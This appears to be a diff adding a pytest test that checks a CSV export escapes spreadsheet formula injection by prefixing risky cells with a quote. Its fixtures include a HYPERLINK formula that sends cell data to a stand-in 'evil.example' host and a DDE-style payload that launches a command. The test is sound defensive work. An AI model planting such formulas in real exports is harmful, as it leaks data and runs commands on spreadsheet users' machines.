@@ -1,6 +1,9 @@
 """The database round trip on a real SQLite file and a real PostgreSQL database (the `db_url`
 fixture runs a test on each backend)."""
 
+import csv
+import io
+
 import pytest
 from sqlalchemy import text
 
@@ -107,3 +110,21 @@ def test_a_transaction_commits_together_or_not_at_all(db_url):
         tx.add_run("r1", "t", "c", {})
         tx.add_result(make_result("r1"))
     assert len(store.list()) == 1
+
+
+def test_csv_export_writes_formula_text_behind_a_quote_and_numbers_as_numbers():
+    # an imported device name or error that a spreadsheet would run as a formula (OWASP CSV injection)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    result = make_result(status="crash", final_loss=-1.5, samples_per_s=-0.0, dataset="+1", energy_note="-x",
+                         energy_method="\tcmd", energy_estimate_basis="\r=1").model_copy(
+        update={"device_name": link, "error": "@SUM(1+1)*cmd|' /C calc'!A0"})
+    (row,) = csv.DictReader(io.StringIO(to_csv([result]), newline=""))
+    assert row["device_name"] == "'" + link and row["error"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (row["dataset"], row["energy_note"], row["energy_method"], row["energy_estimate_basis"]) == (
+        "'+1", "'-x", "'\tcmd", "'\r=1")
+    assert row["final_loss"] == "-1.5" and row["samples_per_s"] == "-0.0" and row["workload"] == "cnn"
+    # a carriage return inside a cell is quoted: it cannot start a row whose first cell is a formula
+    broken = make_result().model_copy(update={"device_name": "GPU\r=HYPERLINK(1)\nx"})
+    text = to_csv([broken, result])
+    assert text.count("\n") == 4 and '"GPU\r=HYPERLINK(1)\nx"' in text  # header, 2 rows; 1 quoted line break
+    assert [r["device_name"] for r in csv.DictReader(io.StringIO(text, newline=""))] == ["GPU\r=HYPERLINK(1)\nx", "'" + link]
